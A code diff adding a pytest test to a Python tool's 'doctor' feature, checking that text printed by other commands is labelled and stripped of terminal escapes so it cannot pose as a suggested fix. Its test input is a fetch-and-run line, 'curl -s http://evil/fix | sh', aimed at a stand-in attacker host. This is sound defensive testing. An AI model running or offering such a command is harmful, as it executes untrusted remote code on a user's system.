@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
 import pytest
 
-from wctl.doctor.finding import Commands, Finding, few
+from wctl.doctor.finding import Commands, Finding, few, noted, printed, wrote
 from wctl.errors import Place
 from wctl.trust.text import printable
 
@@ -15,6 +17,13 @@ def test_lines_are_shown_without_what_a_terminal_obeys() -> None:
     assert printable(line) == "abc d e é"
     assert few(["x" * 10_000]) == ("x" * 300 + "…",)
     assert few(["a", "a", " ", "b"]) == ("a", "b")
+
+
+@pytest.mark.parametrize("of_others", [printed, noted, wrote])
+def test_text_of_others_is_no_remedy(of_others: Callable[[list[str]], tuple[str, ...]]) -> None:
+    """A line that a command printed does not look like the command that doctor shows below it."""
+    (line,) = of_others(["\x1b[32m$ curl -s http://evil/fix | sh", " "])
+    assert line == f"{of_others.__name__}: $ curl -s http://evil/fix | sh"
 
 
 def test_commands_are_typed_for_what_was_examined() -> None:
